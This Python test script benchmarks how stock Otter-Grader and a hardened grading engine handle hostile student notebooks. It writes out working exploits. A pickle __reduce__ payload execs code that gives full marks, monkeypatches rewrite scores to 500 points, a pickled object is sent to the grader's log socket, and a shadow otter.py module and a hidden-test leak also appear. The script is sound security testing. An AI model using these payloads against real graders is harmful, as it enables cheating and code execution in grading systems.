"""The same hostile notebooks against stock Otter and against the engine, in one run: what each got from either.

    .venv/bin/python -m tests.bench_attacks [--write]

Stock Otter grades by `tests/stock_otter`, the same rubric as ordinary tests in the student's kernel. To spare this
machine, its processes run as a user without rights, with bounded memory, processes, files and time; in Gradescope's
container they are root. `--write` puts the table into docs/security.md.
"""

from __future__ import annotations

import argparse
import json
import os
import pickle
import re
import shutil
import signal
import subprocess
import sys
import tempfile
import time
import zipfile
from collections.abc import Iterator, Sequence
from dataclasses import dataclass, field
from pathlib import Path

import nbformat
import psutil
from inithw.engine.settings import PLUGIN
from inithw.homework.rubric import POINTS

from tests.attacks import ATTACKS
from tests.attacks.attack import Attack, write_attack
from tests.otter_commands import OTTER, ROOT, STOCK, generate

UID = 63917
LEAST_SECONDS, TIMES_HONEST = 60, 5
"""Stock Otter is taken to hang after so many times what it takes for the reference in the same run, which is longer."""
LIMITS = {"cell_seconds": 5, "question_seconds": 5, "notebook_seconds": 20, "total_seconds": 45, "memory_mb": 1024}
BOUNDS = ["prlimit", f"--as={4 << 30}", "--nproc=150", f"--fsize={64 << 20}", "--core=0", "--cpu=600"]
HIDDEN = "accepted = [(2 / fan_in) ** 0.5"
"""A line of a test that Otter hides from students."""
MARK = re.compile(r"(<!-- stock otter -->\n).*?(?=\n#|\Z)", re.DOTALL)


@dataclass(frozen=True)
class Hostile:
    """An upload for both graders.

    Attributes:
        attack: The notebook's.
        beside: Files uploaded with it, in one zip.
    """

    attack: Attack
    beside: dict[str, bytes] = field(default_factory=dict)


class InTheGrader:
    """Unpickled by Otter's process, it makes every question worth full marks there."""

    def __reduce__(self) -> tuple:
        code = "import otter.test_files as t; t.TestFile.score = property(lambda self: self.possible)"
        return exec, (code,)


SHADOW = b"""
import os, sys
sys.path = [place for place in sys.path if place not in ("", os.getcwd())]
del sys.modules["otter"]
import otter, otter.test_files.exception_test as tests
tests.test_case.call_func = lambda *arguments: None
"""

AIMED = (
    Hostile(
        Attack(
            "a test that calls nothing",
            "one line replaces the method by which Otter calls a test",
            "import otter.test_files.exception_test as t; t.test_case.call_func = lambda *a: None",
        )
    ),
    Hostile(
        Attack(
            "500 points a question",
            "results are changed when they are written",
            """
            import pickle
            dump = pickle.dump
            def generous(results, file):
                for name in results.results:
                    results.update_score(name, 500)
                dump(results, file)
            pickle.dump = generous
            """,
        )
    ),
    Hostile(
        Attack(
            "code for the log server",
            "Otter's process unpickles what the kernel sends it as a log record",
            """
            import logging.handlers, pickle
            code = "import otter.test_files as t; t.TestFile.score = property(lambda self: self.possible)"
            class InTheGrader:
                def __reduce__(self):
                    return exec, (code,)
            h = next(h for h in gc.get_objects() if isinstance(h, logging.handlers.SocketHandler))
            body = pickle.dumps(InTheGrader())
            socket.create_connection((h.host, h.port)).sendall(struct.pack(">L", len(body)) + body)
            time.sleep(1)
            """,
        )
    ),
    Hostile(
        Attack("a log uploaded beside the notebook", "Otter's process unpickles .OTTER_LOG"),
        {".OTTER_LOG": pickle.dumps(InTheGrader()) + b"\n"},
    ),
    Hostile(
        Attack("a module uploaded beside the notebook", "otter.py is imported in place of Otter"),
        {"otter.py": SHADOW},
    ),
    Hostile(
        Attack(
            "hidden tests in a visible message",
            "len(model) fails with the text of a hidden test",
            """
            class Teller:
                def __len__(self):
                    raise RuntimeError(open("tests/q3.py").read())
            """,
            q1="model = Teller()",
        )
    ),
    Hostile(
        Attack("gone", "the process leaves in the middle", "os._exit(0)"),
    ),
)

CHOSEN = (
    "comparisons of torch always agree",
    "builtins that flatter",
    "a lying Sequential",
    "layers by another name",
    "another activation in torch's place",
    "Otter's own calls",
    "a results file",
    "an exception that says passed",
    "the handout's norms by heart",
    "right on the homework's data only",
    "initialization for known seeds",
    "its own seed",
    "quiet failure",
    "a network for the asserts",
    "all memory",
    "a large file",
    "an endless loop in C",
    "an endless loop in a question",
    "an endless sleep",
    "recursion",
    "killing the judge",
    "a double fork",
)
"""Of the attack corpus, what can be said against Otter as it stands, and does this machine no harm."""


@dataclass(frozen=True)
class Outcome:
    """What one grader made of one upload.

    Attributes:
        points: Total, or None without results.
        remarks: What else came of it, in words.
    """

    points: float | None
    remarks: tuple[str, ...] = ()

    def __str__(self) -> str:
        head = "no results" if self.points is None else f"{self.points:g}"
        return ", ".join([head, *self.remarks])


def uploads(folder: Path) -> Iterator[tuple[Hostile, Path]]:
    """Everything to try, and the file to hand in; the notebook is the handout's without its demonstrations."""
    notebook = nbformat.read(ROOT / "assignment/homework.ipynb", as_version=4)
    notebook.cells = [cell for cell in notebook.cells if "demonstration" not in cell.metadata.get("tags", [])]
    skeleton = folder / "skeleton.ipynb"
    nbformat.write(notebook, skeleton)
    shared = folder / "shared"
    shared.mkdir(mode=0o777)
    shared.chmod(0o777)
    corpus = {attack.name: attack for attack in ATTACKS}
    for number, hostile in enumerate([*AIMED, *(Hostile(corpus[name]) for name in CHOSEN)]):
        targets = {"TOKEN": f"t{number}", "SHARED": str(shared), "CLOSED": str(folder / "closed"), "JUDGE": 1 << 22}
        path = write_attack(hostile.attack, skeleton, folder / str(number), targets)
        if hostile.beside:
            with zipfile.ZipFile(path.with_suffix(".zip"), "w") as upload:
                upload.write(path, path.name)
                for name, content in hostile.beside.items():
                    upload.writestr(name, content)
            path = path.with_suffix(".zip")
        yield hostile, path


def stock(archive: Path, path: Path, folder: Path, patience: float) -> Outcome:
    """`otter run` on one upload, for `patience` seconds at most, as a user that is cleared away afterwards."""
    folder.mkdir()
    os.chown(folder, UID, UID)
    command = [*BOUNDS, "setpriv", f"--reuid={UID}", f"--regid={UID}", "--clear-groups"]
    command += [str(OTTER), "run", "-a", str(archive), "-o", str(folder), "--no-logo", str(path)]
    environment = {"PATH": os.defpath, "HOME": str(folder), "TMPDIR": str(folder), "LANG": "C.UTF-8"}
    environment |= dict.fromkeys(("OMP_NUM_THREADS", "OPENBLAS_NUM_THREADS"), "1")
    with (folder / "log").open("wb") as log:
        process = subprocess.Popen(
            command,
            cwd=folder,
            env=environment,
            stdin=subprocess.DEVNULL,
            stdout=log,
            stderr=log,
            start_new_session=True,
        )
        remarks = []
        try:
            process.wait(patience)
        except subprocess.TimeoutExpired:
            remarks.append("hangs")
        else:
            if process.returncode < 0:
                remarks.append(f"the grader was ended ({signal.Signals(-process.returncode).name})")
            time.sleep(1)
            if alive := processes_of(UID):
                remarks.append(f"{len(alive)} process(es) live on")
        finally:
            end_all_of(UID)
            process.wait()
    if not (folder / "results.json").is_file():
        return Outcome(None, tuple(remarks))
    results = json.loads((folder / "results.json").read_text())
    tests = [test for test in results["tests"] if "score" in test]
    shown = [test.get("output", "") for test in results["tests"] if test.get("visibility") == "visible"]
    if HIDDEN in "".join(shown):
        remarks.append("hidden tests shown")
    if not tests:
        return Outcome(None, tuple(remarks))
    return Outcome(float(results.get("score", sum(test["score"] for test in tests))), tuple(remarks))


def processes_of(uid: int) -> list[int]:
    """Processes of a user that are not yet dead."""
    everybody = psutil.process_iter(["uids", "status"])
    return [each.pid for each in everybody if each.info["uids"].real == uid and each.info["status"] != "zombie"]


def end_all_of(uid: int) -> None:
    """Kill what runs under a user of ours; again, for a fork bomb outruns one sweep."""
    for _ in range(20):
        subprocess.run(["setpriv", f"--reuid={uid}", "--clear-groups", "bash", "-c", "kill -9 -1"], capture_output=True)
        if not processes_of(uid):
            return
        time.sleep(0.1)


def engine(paths: Sequence[Path], folder: Path) -> list[Outcome]:
    """`inithw grade` on all uploads."""
    config = json.loads((ROOT / "otter_config.json").read_text())
    config["plugins"][0][PLUGIN]["limits"] = LIMITS
    (folder / "otter_config.json").write_text(json.dumps(config))
    ended = subprocess.run(
        [OTTER.with_name("inithw"), "grade", "--json", *map(str, paths)], cwd=folder, capture_output=True, text=True
    )
    records = [json.loads(line) for line in ended.stdout.splitlines()]
    if len(records) != len(paths):
        raise RuntimeError(f"inithw grade: {ended.stderr[-2000:]}")
    outcomes = []
    for record in records:
        shown = json.dumps(record)
        remarks = ["hidden tests shown"] if HIDDEN in shown else []
        outcomes.append(Outcome(record["score"] if record["status"] == "graded" else None, tuple(remarks)))
    return outcomes


def baselines(folder: Path) -> Iterator[tuple[Hostile, Path]]:
    """What a grader must get right before attacks say anything: all points, and none."""
    for name, title in (("solutions", "(no attack: the reference)"), ("assignment", "(no attack: the skeleton)")):
        path = folder / f"{name}.ipynb"
        shutil.copy(ROOT / name / "homework.ipynb", path)
        yield Hostile(Attack(title, "", earns=frozenset(POINTS if name == "solutions" else ()))), path


def table(rows: Sequence[tuple[Hostile, Outcome, Outcome]]) -> str:
    """Both columns in Markdown, and a sentence that adds them up."""
    lines = ["| attack | what it does | its answers are worth | stock Otter | this engine |", "|---|---|---|---|---|"]
    for hostile, stocks, ours in rows:
        attack = hostile.attack
        lines.append(f"| {attack.name} | {attack.tries} | {worth(attack):g} | {stocks} | {ours} |")
    attacks = [row for row in rows if row[0].attack.tries]
    sums = [
        summed(who, [(row[0].attack, row[column]) for row in attacks])
        for column, who in ((1, "Stock Otter"), (2, "this engine"))
    ]
    return "\n".join([f"{'; '.join(sums)}.", "", *lines])


def summed(who: str, column: Sequence[tuple[Attack, Outcome]]) -> str:
    """One column in words."""
    gained = sum((got.points or 0) > worth(attack) for attack, got in column)
    without = sum(got.points is None for _, got in column)
    hanging = sum("hangs" in got.remarks for _, got in column)
    shown = sum("hidden tests shown" in got.remarks for _, got in column)
    return (
        f"{who} gave {gained} of {len(column)} attacks more than their answers are worth, left {without} without "
        f"results ({hanging} by hanging), and showed hidden tests to {shown}"
    )


def worth(attack: Attack) -> float:
    """Points of what an attack answers rightly, apart from what it tries."""
    return sum(POINTS[item] for item in attack.earns)


def main(arguments: Sequence[str] | None = None) -> int:
    """Try everything against both, and print the table."""
    parser = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    parser.add_argument("--write", action="store_true", help="put the table into docs/security.md")
    parser.add_argument("--only", default="", help="only attacks whose name has this in it")
    options = parser.parse_args(arguments)
    with tempfile.TemporaryDirectory(prefix="bench-attacks-") as name:
        folder = Path(name)
        folder.chmod(0o711)
        archive = generate(STOCK, STOCK / "otter_config.json", folder)
        attacks = [pair for pair in uploads(folder) if options.only in pair[0].attack.name]
        tried = [*baselines(folder), *attacks]
        ours = engine([path for _, path in tried], folder)
        rows, patience = [], 600.0
        for number, ((hostile, path), our) in enumerate(zip(tried, ours, strict=True)):
            started = time.monotonic()
            rows.append((hostile, stock(archive, path, folder / f"stock{number}", patience), our))
            seconds = time.monotonic() - started
            if number == 0:  # the reference
                patience = max(LEAST_SECONDS, TIMES_HONEST * seconds)
            print(f"{hostile.attack.name}: {rows[-1][1]} | {our} ({seconds:.0f} s)", flush=True)
    text = table(rows)
    print(text)
    if options.write:
        document = ROOT / "docs/security.md"
        page = document.read_text(encoding="utf-8")
        document.write_text(MARK.sub(lambda found: f"{found[1]}\n{text}\n", page), encoding="utf-8")
    return 0


if __name__ == "__main__":
    sys.exit(main())
